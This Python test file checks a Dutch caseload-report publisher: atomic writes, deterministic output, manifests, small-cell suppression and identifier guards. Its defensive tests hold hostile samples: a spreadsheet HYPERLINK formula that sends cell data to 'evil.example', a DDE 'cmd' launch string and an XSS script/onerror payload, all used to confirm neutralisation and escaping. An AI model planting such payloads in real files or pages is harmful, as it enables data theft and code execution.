"""Tests of caseload.publish: atomic writing, determinism, manifest, suppression, guards."""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from caseload.errors import CaseloadError
from caseload.figures.style import finish, new_figure
from caseload.publish import Publication, StepRecord, suppress_table, write_report
from caseload.publish import report as report_module
from caseload.publish.report import MARKER, MARKER_TEXT, README_TEXT

PEIL = "2025-12-31"


def _cross_table() -> pd.DataFrame:
    """Age band x sex with row and column totals; three cells below 5."""
    body = pd.DataFrame({
        "leeftijd": ["15-26 jaar", "27-44 jaar", "45-64 jaar"],
        "man": [3, 40, 61],
        "vrouw": [12, 2, 58],
        "onbekend": [9, 7, 4],
    })
    body["totaal"] = body[["man", "vrouw", "onbekend"]].sum(axis=1)
    total = pd.DataFrame({"leeftijd": ["Totaal"], **{c: [body[c].sum()] for c in
                                                     ["man", "vrouw", "onbekend", "totaal"]}})
    return pd.concat([body, total], ignore_index=True)


def _share_table() -> pd.DataFrame:
    n = pd.Series([3, 50, 20, 27])
    return pd.DataFrame({"trede": ["1", "2", "3", "4"], "aantal": n,
                         "werk_binnen_jaar": [2, 20, 9, 8],
                         "percentage_werk": 100 * pd.Series([2, 20, 9, 8]) / n})


def _figure():
    fig, ax = new_figure(6, 3)
    ax.bar(["A", "B", "C"], [10, 20, 15])
    return finish(fig, title="Test", source="Bron", peildatum=PEIL)


def _publication(extra_table: pd.DataFrame | None = None, inputs=()) -> Publication:
    pub = Publication("Testrapport", PEIL, "Synthetisch bestand", min_cell=5)
    pub.inputs.extend(inputs)
    pub.config = {"report": {"language": "nl"}}
    pub.add_table("leeftijd_geslacht", _cross_table(), title="Bestand naar leeftijd en geslacht",
                  method="Telling op de peildatum.",
                  counts=["man", "vrouw", "onbekend", "totaal"], row_total="Totaal",
                  col_total="totaal", section="Bestand")
    pub.add_table("trede_werk", _share_table(), title="Werk binnen een jaar naar trede",
                  method="Aandeel met werk binnen 12 maanden.",
                  counts=["aantal", "werk_binnen_jaar"],
                  percentages={"percentage_werk": "aantal"},
                  derived={"percentage_werk": "werk_binnen_jaar"}, decimals=1, section="KPI")
    pub.add_table("model", pd.DataFrame({"parameter": ["a", "b"], "schatting": [0.123456, 2.5]}),
                  title="Modelparameters", method="Kleinste kwadraten.", decimals=3,
                  suppression_note="Modelparameters; geen aantallen.", section="KPI")
    if extra_table is not None:
        pub.add_table("extra", extra_table, title="Extra", method="-", section="Extra")
    pub.add_figure("staaf", _figure(), title="Een staafdiagram", caption="Drie groepen.",
                   method="Telling.", section="Bestand")
    pub.add_step(StepRecord("validate", 300, 0.5, ["leeftijd_geslacht"], []))
    pub.add_step(StepRecord("kpi", 100, 0.25, ["trede_werk", "model"], ["staaf"]))
    return pub


def _no_exchange(a, b):
    raise OSError(errno.ENOSYS, "no atomic exchange here")


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


@pytest.fixture
def inputs(tmp_path) -> list[Path]:
    p = tmp_path / "extract.csv"
    p.write_text("a;b\n1;2\n", encoding="utf-8")
    return [p]


@pytest.fixture
def written(tmp_path, inputs):
    """A report written twice into the same folder (the second run replaces the first)."""
    out = tmp_path / "reports"
    write_report(_publication(inputs=inputs), out)
    result = write_report(_publication(inputs=inputs), out)
    return out, result


# ------------------------------------------------------------------ layout and content


def test_layout(written):
    out, result = written
    names = set(_snapshot(out))
    assert {"index.html", "tabellen.xlsx", "manifest.json", "README.md",
            "tables/leeftijd_geslacht.csv", "tables/trede_werk.csv", "tables/model.csv",
            "figures/staaf.png", "figures/staaf.svg"} <= names
    # The report carries its README and the marker of a report folder, and nothing else.
    assert (out / "README.md").read_text(encoding="utf-8") == README_TEXT
    assert (out / MARKER).read_text(encoding="utf-8") == MARKER_TEXT
    assert names == set(result.manifest["files"]) | {"manifest.json"}
    # No staging or old folders are left next to the target.
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".reports")] == []
    assert set(result.manifest["files"]) >= {"index.html", "tabellen.xlsx",
                                             "tables/model.csv", "figures/staaf.png"}


def test_csv_format(written):
    """Default "excel-nl": UTF-8 with BOM, ';' separated, decimal comma."""
    out, _ = written
    raw = (out / "tables" / "trede_werk.csv").read_bytes()
    assert raw.count(b"\r\n") == raw.count(b"\n")  # CRLF line ends (RFC 4180, Excel)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    header, first, second = text.splitlines()[:3]
    # "aantal" has no label of its own: its header comes from the label catalogue.
    assert header == "trede;Aantal;werk_binnen_jaar;percentage_werk"
    # Base 3 suppressed -> count, its numerator and its percentage are blank.
    assert first == "1;;;"
    assert second == "2;50;20;40,0"
    model = (out / "tables" / "model.csv").read_text(encoding="utf-8-sig").splitlines()
    assert model[1:] == ["a;0,123", "b;2,500"]


def test_csv_format_plain(tmp_path):
    """[report] csv = "plain": ',' separated, decimal point, UTF-8 without BOM."""
    pub = _publication()
    pub.csv = "plain"
    pub.pdf = False
    write_report(pub, tmp_path / "r")
    raw = (tmp_path / "r" / "tables" / "trede_werk.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8").splitlines()[:3] == ["trede,Aantal,werk_binnen_jaar,percentage_werk",
                                                    "1,,,", "2,50,20,40.0"]
    model = (tmp_path / "r" / "tables" / "model.csv").read_text().splitlines()
    assert model[1:] == ["a,0.123", "b,2.500"]


def test_brief_table_shows_the_chosen_columns_and_links_the_full_one(tmp_path):
    """`brief`: the HTML shows only those columns and says where the full table is; CSV keeps all."""
    pub = Publication("Rapport", "2025-12-31", "Bron", pdf=False)
    df = pd.DataFrame({"groep": ["a", "b"], "ratio": [1.2, 0.9], "ratio_lo": [0.8, 0.5], "ratio_hi": [1.7, 1.4]})
    pub.add_table("breed", df, title="Brede tabel", method="m", brief=["groep", "ratio"])
    write_report(pub, tmp_path / "r")
    html = (tmp_path / "r" / "index.html").read_text(encoding="utf-8")
    section = html.split('id="s-breed"')[1].split("</section>")[0]
    headers = [h for h in section.split("<th>")[1:]]
    assert len(headers) == 2, headers
    assert "volledige tabel (4 kolommen" in section and 'href="tables/breed.csv"' in section
    assert (tmp_path / "r" / "tables" / "breed.csv").read_text(encoding="utf-8-sig").splitlines()[0].count(";") == 3
    with pytest.raises(CaseloadError, match="ratio_mid"):
        pub.add_table("breed2", df, title="t", method="m", brief=["ratio_mid"])


def test_forced_cells_are_hidden_like_suppressed_ones(tmp_path):
    """`forced`: a count that quotes a cell another table hides is an x, never a blank."""
    pub = Publication("Rapport", "2025-12-31", "Bron", pdf=False)
    df = pd.DataFrame({"pmc": ["a", "b", "c"], "kandidaten": [7, 3, 12]})
    pub.add_table("kandidaten", df, title="Kandidaten", method="m", counts=["kandidaten"], secondary=False,
                  forced={"kandidaten": np.array([False, False, True])})
    write_report(pub, tmp_path / "r")
    html = (tmp_path / "r" / "index.html").read_text(encoding="utf-8").split('id="s-kandidaten"')[1]
    assert html.split("</section>")[0].count('class="num x"') == 2  # 3 (primary) and 12 (forced)
    rows = (tmp_path / "r" / "tables" / "kandidaten.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rows[1:] == ["a;7", "b;", "c;"]
    rel = json.loads((tmp_path / "r" / "relations.json").read_text(encoding="utf-8"))
    assert len(rel["tables"]["kandidaten"]["suppressed"]) == 2


def test_workbook(written):
    out, _ = written
    wb = load_workbook(out / "tabellen.xlsx")
    assert wb.sheetnames[0] == "Toelichting"
    assert set(wb.sheetnames[1:]) == {"leeftijd_geslacht", "trede_werk", "model"}
    assert all(len(n) <= 31 for n in wb.sheetnames)
    notes = [[c for c in row if c is not None] for row in wb["Toelichting"].iter_rows(values_only=True)]
    flat = " ".join(str(c) for row in notes for c in row)
    assert "31-12-2025" in flat and "Synthetisch bestand" in flat
    assert "Telling op de peildatum." in flat and "1 tot en met 4" in flat
    assert "Modelparameters; geen aantallen." in flat
    ws = wb["leeftijd_geslacht"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("leeftijd", "man", "vrouw", "onbekend", "totaal")
    assert rows[1][1] is None  # 3 men aged 15-26: suppressed, an empty cell
    assert wb.properties.created == pd.Timestamp(PEIL).to_pydatetime()


def test_html_self_contained(written):
    out, _ = written
    html = (out / "index.html").read_text(encoding="utf-8")
    assert "http://" not in html and "https://" not in html
    assert html.count('<img alt="Een staafdiagram" src="data:image/png;base64,') == 1
    for title in ("Bestand naar leeftijd en geslacht", "Werk binnen een jaar naar trede",
                  "Modelparameters", "Peildatum", "Onthullingscontrole", "31-12-2025"):
        assert title in html
    # Sections in the order the items were added, suppressed cells marked.
    assert html.index('id="h-bestand"') < html.index('id="h-kpi"')
    assert 'class="num x"' in html


# ------------------------------------------------------------------ determinism


def test_two_runs_identical(tmp_path, inputs):
    a = write_report(_publication(inputs=inputs), tmp_path / "a")
    # Zip entries have a 2-second resolution: wait so unnormalised stamps would differ.
    time.sleep(2.1)
    b = write_report(_publication(inputs=inputs), tmp_path / "b")
    sa, sb = _snapshot(a.out_dir), _snapshot(b.out_dir)
    assert set(sa) == set(sb)
    different = [k for k in sa if sa[k] != sb[k]]
    assert different == ["manifest.json"], different
    ma, mb = (json.loads(sa["manifest.json"]), json.loads(sb["manifest.json"]))
    assert ma["files"] == mb["files"]
    with zipfile.ZipFile(a.out_dir / "tabellen.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}


# ------------------------------------------------------------------ atomic swap


def test_failed_write_leaves_previous_reports(written, inputs):
    out, _ = written
    before = _snapshot(out)
    bsn_table = pd.DataFrame({"groep": ["x", "y"], "kenmerk": ["bsn 123456782", "niets"]})
    with pytest.raises(CaseloadError, match="BSN"):
        write_report(_publication(bsn_table, inputs=inputs), out)
    assert _snapshot(out) == before
    assert sorted(p.name for p in out.parent.iterdir() if p.name.startswith(".")) == []


def test_failure_while_saving_figures_leaves_previous_reports(written, inputs):
    out, _ = written
    before = _snapshot(out)

    class Broken:
        def savefig(self, *a, **k):
            raise OSError("disk full")

    pub = _publication(inputs=inputs)
    pub.add_figure("kapot", Broken(), title="Kapot")
    with pytest.raises(OSError, match="disk full"):
        write_report(pub, out)
    assert _snapshot(out) == before
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []


def test_failure_during_swap_restores_previous(written, inputs, monkeypatch):
    out, _ = written
    before = _snapshot(out)
    real_rename = Path.rename

    def rename(self, target):
        if self.name.startswith(".reports.tmp"):
            raise OSError("rename failed")
        return real_rename(self, target)

    # Without an atomic exchange (ENOSYS: Windows, some network file systems) the swap is
    # two renames; when the second fails, the old report is put back.
    monkeypatch.setattr(report_module, "_exchange", _no_exchange)
    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(OSError, match="rename failed"):
        write_report(_publication(inputs=inputs), out)
    monkeypatch.undo()
    assert _snapshot(out) == before
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []


def test_stale_stage_of_a_killed_run_is_removed(written, inputs):
    out, _ = written
    # A pid far above pid_max cannot be alive; the stage of a live process is left alone.
    dead = out.parent / ".reports.tmp-99999999-deadbeef"
    alive = out.parent / f".reports.tmp-{os.getppid()}-cafebabe"
    for p in (dead, alive):
        p.mkdir()
        (p / "index.html").write_text("half written", encoding="utf-8")
    write_report(_publication(inputs=inputs), out)
    assert not dead.exists() and alive.exists()


def test_first_run_creates_folder(tmp_path, inputs):
    out = tmp_path / "nieuw" / "reports"
    write_report(_publication(inputs=inputs), out)
    assert (out / "index.html").is_file()


# ------------------------------------------------------------------ manifest


def test_manifest_complete(written, inputs):
    out, result = written
    m = json.loads((out / "manifest.json").read_text())
    assert m == json.loads(json.dumps(result.manifest, default=str))
    assert m["peildatum"] == PEIL
    assert m["inputs"] == [{"path": str(inputs[0]), "bytes": inputs[0].stat().st_size,
                            "sha256": hashlib.sha256(inputs[0].read_bytes()).hexdigest()}]
    assert m["config"] == {"report": {"language": "nl"}}
    for pkg in ("caseload", "pandas", "numpy", "scikit-learn", "statsmodels", "matplotlib",
                "pyarrow"):
        assert m["packages"][pkg] and m["packages"][pkg] != "not installed"
    assert [(s["name"], s["rows"], s["seconds"]) for s in m["steps"]] == [
        ("validate", 300, 0.5), ("kpi", 100, 0.25)]
    assert m["timings"]["steps_seconds"] == 0.75 and m["timings"]["write_seconds"] > 0
    assert m["suppression"]["min_cell"] == 5
    tables = {t["name"]: t for t in m["tables"]}
    assert tables["leeftijd_geslacht"]["rows"] == 4
    assert tables["leeftijd_geslacht"]["suppressed"]["primary"] == 3
    assert tables["leeftijd_geslacht"]["suppressed"]["secondary"] >= 3
    assert tables["model"]["suppressed"] == {"primary": 0, "secondary": 0, "percentages": 0}
    # Every file hash in the manifest is the hash of the file on disk.
    for rel, digest in m["files"].items():
        assert hashlib.sha256((out / rel).read_bytes()).hexdigest() == digest
    assert m["figures"][0]["files"] == ["figures/staaf.png", "figures/staaf.svg"]


# ------------------------------------------------------------------ suppression


def _item(pub: Publication, name: str):
    return next(t for t in pub.tables if t.name == name)


def test_primary_and_secondary_suppression_on_cross_table():
    pub = _publication()
    table, stats = suppress_table(_item(pub, "leeftijd_geslacht"), min_cell=5)
    orig = _cross_table()
    cells = ["man", "vrouw", "onbekend", "totaal"]
    blank = table[cells].isna().to_numpy()
    values = orig[cells].to_numpy()
    # Primary: every count 1-4 is blank.
    assert blank[(values > 0) & (values < 5)].all()
    assert stats["primary"] == 3
    # Secondary: no row or column has exactly one blank cell, so no blank cell
    # equals a margin minus the shown cells.
    assert all(row.sum() != 1 for row in blank)
    assert all(col.sum() != 1 for col in blank.T)
    assert stats["secondary"] == int(blank.sum()) - 3 and stats["secondary"] > 0
    # What is shown is unchanged.
    shown = ~blank
    assert (table[cells].to_numpy()[shown].astype(int) == values[shown]).all()


def test_recovery_from_totals_is_impossible():
    """Brute force: each blank cell takes at least two values consistent with the margins."""
    pub = _publication()
    table, _ = suppress_table(_item(pub, "leeftijd_geslacht"), min_cell=5)
    cells = ["man", "vrouw", "onbekend"]
    shown = table[cells + ["totaal"]]
    body = shown.iloc[:-1]
    for r in range(len(body)):
        row_total = body["totaal"].iloc[r]
        missing = body[cells].iloc[r].isna()
        if pd.isna(row_total) or missing.sum() == 0:
            continue
        assert missing.sum() >= 2


def test_percentages_on_suppressed_bases():
    pub = _publication()
    table, stats = suppress_table(_item(pub, "trede_werk"), min_cell=5)
    assert pd.isna(table.loc[0, "aantal"]) and pd.isna(table.loc[0, "percentage_werk"])
    assert table.loc[1, "percentage_werk"] == pytest.approx(40.0)
    assert stats["percentages"] >= 1
    assert str(table["aantal"].dtype) == "Int64"


def test_long_table_suppression():
    long = pd.DataFrame({"gemeente": ["GM1"] * 3 + ["GM2"] * 3,
                         "geslacht": ["M", "V", "X"] * 2,
                         "aantal": [30, 2, 40, 25, 26, 27]})
    pub = Publication("t", PEIL, "b")
    item = pub.add_table("lang", long, title="t", method="m", counts=["aantal"], layout="long",
                         by=["gemeente"])
    table, stats = suppress_table(item, 5)
    assert pd.isna(table.loc[1, "aantal"])
    # Within GM1 a second cell goes, so the 2 does not follow from a group total.
    assert table.loc[:2, "aantal"].isna().sum() >= 2
    assert stats["primary"] == 1 and stats["secondary"] >= 1


def test_threshold_is_configurable(tmp_path):
    pub = _publication()
    pub.min_cell = 3
    table, stats = suppress_table(_item(pub, "leeftijd_geslacht"), min_cell=3)
    assert stats["primary"] == 1  # only the 2
    assert not pd.isna(table.loc[0, "man"]) or stats["secondary"] > 0


# ------------------------------------------------------------------ guards


@pytest.mark.parametrize("bad", [
    pd.DataFrame({"client_id": ["a", "b"], "aantal": [10, 12]}),
    pd.DataFrame({"groep": ["0123456789abcdef0123", "fedcba98765432100123"], "n": [1.5, 2.5]}),
    pd.DataFrame({"groep": ["x", "y"], "waarde": [123456782, 7]}),
])
def test_identifiers_and_bsn_are_refused(tmp_path, bad):
    out = tmp_path / "reports"
    with pytest.raises(CaseloadError):
        write_report(_publication(bad), out)
    assert not out.exists()
    assert list(tmp_path.iterdir()) == []


def test_labels_cannot_smuggle_an_identifier(tmp_path):
    pub = Publication("t", PEIL, "b")
    pub.add_table("x", pd.DataFrame({"groep": ["a"], "n": [0.5]}), title="t", method="m",
                  labels={"groep": "Cliënt (pseudoniem)"})
    with pytest.raises(CaseloadError, match="identifier"):
        write_report(pub, tmp_path / "r")


def test_spec_errors():
    pub = Publication("t", PEIL, "b")
    with pytest.raises(CaseloadError, match="not in the table"):
        pub.add_table("x", pd.DataFrame({"n": [1]}), title="t", method="m", counts=["aantal"])
    with pytest.raises(CaseloadError, match="file stem"):
        pub.add_table("Met Spatie", pd.DataFrame({"n": [1]}), title="t", method="m")
    pub.add_table("x", pd.DataFrame({"n": [1]}), title="t", method="m")
    with pytest.raises(CaseloadError, match="twice"):
        pub.add_table("x", pd.DataFrame({"n": [1]}), title="t", method="m")


def test_english_labels(tmp_path):
    pub = Publication("Report", PEIL, "Synthetic", lang="en")
    pub.add_table("t", _share_table(), title="Work", method="Share.", counts=["aantal"],
                  percentages={"percentage_werk": "aantal"})
    out = write_report(pub, tmp_path / "r").out_dir
    html = (out / "index.html").read_text()
    assert "Reference date" in html and "Disclosure control" in html and "Peildatum" not in html
    assert load_workbook(out / "tabellen.xlsx").sheetnames[0] == "Notes"


def test_index_tables_and_gaps(tmp_path):
    df = pd.DataFrame({"n": [10, 0]}, index=pd.Index(["a", "b"], name="groep"))
    pub = Publication("t", PEIL, "b")
    pub.add_table("idx", df, title="t", method="m", counts=["n"], secondary=False)
    out = write_report(pub, tmp_path / "r").out_dir
    assert (out / "tables" / "idx.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "groep;Aantal", "a;10", "b;0"]
    gap = Publication("t", PEIL, "b")
    gap.add_table("gap", pd.DataFrame({"g": ["a", "b"], "n": [10.0, np.nan]}), title="t",
                  method="m", counts=["n"])
    with pytest.raises(CaseloadError, match="empty count in row 2"):
        write_report(gap, tmp_path / "r")
    assert (out / "tables" / "idx.csv").is_file()


# ------------------------------------------------------------------ no live formulas (issue 11)

_EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_text_that_starts_a_formula_is_neutralised_in_csv_and_xlsx(tmp_path):
    """A dropout reason or a title starting with = + - @ (or TAB/CR) is text in CSV and XLSX."""
    reasons = pd.DataFrame({
        "reden": [_EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-", "Werk",
                  "-3", "  =1", "\r-2+3"],
        "aantal": [10, 20, 30, 40, 50, 60, 70, 80, 90],
        "saldo": [-5.5, 1.25, -0.5, 2.0, 3.0, -1.75, 0.5, 1.0, 2.5],
    })
    pub = Publication(_EVIL, PEIL, "@bron", min_cell=5)
    pub.notes.append("-- toelichting met streepjes")
    pub.add_table("uitval_redenen", reasons, title="+titel", method="=1+1", counts=["aantal"],
                  decimals=2, labels={"reden": "=Reden"})
    out = write_report(pub, tmp_path / "r").out_dir
    with open(out / "tables" / "uitval_redenen.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh, delimiter=";"))  # the default excel-nl format
    assert rows[0][0] == "'=Reden" and len(rows) == 10
    assert [r[0] for r in rows[1:10]] == ["'" + _EVIL, "'+cmd|' /C calc'!A0", "'@SUM(1+1)",
                                          "'\t=1+1", "'-", "Werk", "-3", "'  =1", "'\r-2+3"]
    # Numbers stay numbers: negative amounts are written as numbers (decimal comma), not quoted.
    assert rows[1][2] == "-5,50" and rows[3][2] == "-0,50"
    wb = load_workbook(out / "tabellen.xlsx")
    formulas = [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    ws = wb["uitval_redenen"]
    assert ws["A1"].value == "=Reden" and ws["A1"].quotePrefix
    assert ws["A2"].value == _EVIL and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["A7"].value == "Werk" and not ws["A7"].quotePrefix
    assert ws["A10"].value.endswith("-2+3") and ws["A10"].quotePrefix  # XML reads CR as LF
    assert ws["C2"].value == -5.5 and ws["C2"].data_type == "n"
    notes = wb["Toelichting"]
    title = notes["A1"]
    assert title.value == _EVIL and title.data_type == "s" and title.quotePrefix
    texts = {c.value: c for row in notes.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts["+titel"].quotePrefix and texts["=1+1"].quotePrefix
    assert texts["-- toelichting met streepjes"].quotePrefix
    # HTML stays escaped: the text is shown, nothing is made a link or markup.
    html = (out / "index.html").read_text(encoding="utf-8")
    assert '<a href="http://evil' not in html and "HYPERLINK(&quot;" in html


def test_neutralise_frame_keeps_numbers_and_types():
    from caseload.publish.safe import neutralise_frame

    df = pd.DataFrame({"t": pd.array(["=a", None, "b"], dtype="string"), "n": [-1, 2, -3],
                       "c": pd.Categorical(["-x", "y", "-x"]), "o": [-4, "=b", None]})
    out = neutralise_frame(df)
    assert out["t"].tolist()[0] == "'=a" and pd.isna(out["t"].iloc[1]) and out["t"].dtype == "string"
    assert out["n"].tolist() == [-1, 2, -3] and out["n"].dtype == df["n"].dtype
    assert out["c"].tolist() == ["'-x", "y", "'-x"]
    assert out["o"].tolist()[:2] == [-4, "'=b"]
    assert df["t"].iloc[0] == "=a"  # the input is not changed
    clean = pd.DataFrame({"t": ["a", "-2,5"], "n": [1, 2]})
    assert neutralise_frame(clean) is clean


# ------------------------------------------------------------------ the report folder (issue 11)


def _complete(out: Path) -> bool:
    """Whether ``out`` holds one whole report: every file its manifest lists, with that hash."""
    try:
        manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return False
    return (out / MARKER).is_file() and all(
        (out / name).is_file() and hashlib.sha256((out / name).read_bytes()).hexdigest() == sha
        for name, sha in manifest["files"].items())


def test_a_folder_with_other_files_is_refused_and_untouched(tmp_path, inputs):
    out = tmp_path / "mijn_map"
    (out / "kpi").mkdir(parents=True)
    (out / "README.md").write_text("# mijn notities\n", encoding="utf-8")
    (out / "tables").mkdir()
    (out / "tables" / "begroting.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    (out / "kpi" / "index.html").write_text("other command", encoding="utf-8")
    before = _snapshot(out)
    with pytest.raises(CaseloadError, match="not written by caseload") as exc:
        write_report(_publication(inputs=inputs), out)
    assert "tables/begroting.csv" in str(exc.value) and "Fix:" in str(exc.value)
    assert _snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["mijn_map", "extract.csv"])


def test_a_file_added_to_a_report_is_not_deleted(written, inputs):
    out, _ = written
    (out / "tables" / "eigen.csv").write_text("x\n", encoding="utf-8")
    (out / "notities.txt").write_text("x\n", encoding="utf-8")
    before = _snapshot(out)
    with pytest.raises(CaseloadError, match="did not write") as exc:
        write_report(_publication(inputs=inputs), out)
    assert "'notities.txt'" in str(exc.value) and "'tables/eigen.csv'" in str(exc.value)
    assert _snapshot(out) == before
    (out / "tables" / "eigen.csv").unlink()
    (out / "notities.txt").unlink()
    write_report(_publication(inputs=inputs), out)
    assert _complete(out)


@pytest.mark.parametrize("where", ["data", ".", "data/extract.csv", "/"])
def test_a_folder_holding_or_above_the_inputs_is_refused(tmp_path, where):
    data = tmp_path / "data"
    data.mkdir()
    extract = data / "extract.csv"
    extract.write_text("a;b\n1;2\n", encoding="utf-8")
    config = tmp_path / "caseload.toml"
    config.write_text("", encoding="utf-8")
    before = _snapshot(tmp_path)
    out = Path(where) if where == "/" else tmp_path / where
    with pytest.raises(CaseloadError, match="may not hold") as exc:
        write_report(_publication(inputs=[extract, config]), out)
    assert "Fix:" in str(exc.value)
    assert _snapshot(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["caseload.toml", "data"]


def test_a_report_inside_another_report_is_refused(written, inputs):
    out, _ = written
    with pytest.raises(CaseloadError, match="lies inside the report folder"):
        write_report(_publication(inputs=inputs), out / "kpi")
    assert not (out / "kpi").exists()


def test_the_committed_reports_folder_is_a_report_folder(tmp_path, inputs):
    """reports/ of the repository holds README.md and the marker, byte-equal to what a run
    writes: a refresh into it is allowed, and leaves git's working tree unchanged."""
    root = Path(__file__).resolve().parents[1] / "reports"
    assert (root / "README.md").read_text(encoding="utf-8") == README_TEXT
    assert (root / MARKER).read_text(encoding="utf-8") == MARKER_TEXT
    fresh = tmp_path / "reports"
    fresh.mkdir()
    for name in ("README.md", MARKER):
        (fresh / name).write_bytes((root / name).read_bytes())
    write_report(_publication(inputs=inputs), fresh)
    for name in ("README.md", MARKER):
        assert (fresh / name).read_bytes() == (root / name).read_bytes()


def test_leftovers_of_killed_runs_are_removed_or_put_back(written, inputs, monkeypatch):
    out, _ = written
    before = _snapshot(out)
    dead = 99_999_999  # above any pid_max: not a live process
    # Killed between the two renames of the fallback swap: the old report is aside, no target.
    aside = out.parent / f".reports.old-{dead}-deadbeef"
    out.rename(aside)
    # Killed while deleting the old report after an exchange: a half-deleted .tmp- folder.
    half = out.parent / f".reports.tmp-{dead}-cafebabe"
    (half / "tables").mkdir(parents=True)
    bsn_table = pd.DataFrame({"groep": ["x", "y"], "kenmerk": ["bsn 123456782", "niets"]})
    with pytest.raises(CaseloadError, match="BSN"):
        write_report(_publication(bsn_table, inputs=inputs), out)
    # The refused run still put the old report back and removed the dead stage.
    assert _snapshot(out) == before
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
    # An .old- folder next to an existing report is deleted.
    (out.parent / f".reports.old-{dead}-0badf00d").mkdir()
    write_report(_publication(inputs=inputs), out)
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []


def test_attachments_are_part_of_the_report(tmp_path, inputs):
    model = tmp_path / "m.skops"
    model.write_bytes(b"PK\x03\x04 model")
    out = tmp_path / "r"
    result = write_report(_publication(inputs=inputs), out, attachments={"models/m.skops": model})
    assert (out / "models" / "m.skops").read_bytes() == model.read_bytes()
    assert "models/m.skops" in result.manifest["files"]
    write_report(_publication(inputs=inputs), out)  # the next run may replace it
    assert not (out / "models").exists()
    with pytest.raises(CaseloadError, match="attachment"):
        write_report(_publication(inputs=inputs), out, attachments={"../x": model})


_WRITER = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from test_publish import _publication
from caseload.publish import write_report
out, extract = Path(sys.argv[2]), Path(sys.argv[3])
print("ready", flush=True)
while True:
    write_report(_publication(inputs=[extract]), out)
    print("written", flush=True)
"""


@pytest.mark.slow
def test_a_complete_report_exists_at_every_moment_under_kill_and_concurrency(written, inputs):
    """Two writers race on one folder; the folder is watched, then each writer is SIGKILLed at a
    random moment (twice). The folder is never missing, and after every kill it is one whole
    report."""
    import signal
    import subprocess
    import sys

    out, _ = written
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
        [str(Path(__file__).resolve().parents[1]), os.environ.get("PYTHONPATH", "")]),
        "MPLBACKEND": "Agg"}
    rng = np.random.default_rng(3)
    missing = checks = 0
    for _ in range(2):
        procs = [subprocess.Popen([sys.executable, "-c", _WRITER, str(Path(__file__).parent),
                                   str(out), str(inputs[0])], env=env, stdout=subprocess.PIPE,
                                  text=True) for _ in range(2)]
        for p in procs:
            assert p.stdout.readline().strip() == "ready"
        procs[0].stdout.readline()  # at least one report written by these processes
        deadline = time.monotonic() + rng.uniform(0.1, 1.0)
        while time.monotonic() < deadline:
            checks += 1
            missing += not (out / "index.html").is_file() or not (out / MARKER).is_file()
        for p in procs:
            p.send_signal(signal.SIGKILL)
            p.wait()
        assert _complete(out)
    assert checks > 100 and missing == 0
    # The next run removes whatever the killed runs left next to the folder.
    write_report(_publication(inputs=inputs), out)
    assert _complete(out)
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []


def test_markup_in_texts_stays_escaped_in_html_and_svg(tmp_path):
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    pub = Publication(evil, PEIL, "bron", min_cell=5)
    pub.add_table("t", pd.DataFrame({"reden": [evil, "Werk"], "aantal": [10, 20]}), title=evil,
                  method=evil, counts=["aantal"], labels={"reden": evil})
    fig, ax = new_figure(6, 3)
    ax.bar([evil, "B"], [10, 20])
    pub.add_figure("f", finish(fig, title=evil, source="Bron", peildatum=PEIL), title=evil,
                   caption=evil, method=evil)
    out = write_report(pub, tmp_path / "r").out_dir
    html = (out / "index.html").read_text(encoding="utf-8")
    svg = (out / "figures" / "f.svg").read_text(encoding="utf-8")
    for text in (html, svg):
        assert "<script" not in text and "<img src=x" not in text
        assert "&lt;script&gt;" in text


def test_the_swap_is_one_atomic_exchange_here(written, inputs, monkeypatch):
    """On Linux and macOS the two folders are exchanged by one system call, not two renames;
    an error of that call leaves the previous report as it was."""
    import sys

    if not (sys.platform.startswith("linux") or sys.platform == "darwin"):
        pytest.skip("no atomic exchange on this platform")
    out, _ = written

    def two_renames(*a):
        raise AssertionError("the fallback was used")

    monkeypatch.setattr(report_module, "_swap_by_two_renames", two_renames)
    write_report(_publication(inputs=inputs), out)
    assert _complete(out)
    before = _snapshot(out)

    def broken(a, b):
        raise OSError(errno.EIO, "input/output error")

    monkeypatch.setattr(report_module, "_exchange", broken)
    with pytest.raises(OSError, match="input/output"):
        write_report(_publication(inputs=inputs), out)
    assert _snapshot(out) == before
    assert [p.name for p in out.parent.iterdir() if p.name.startswith(".")] == []
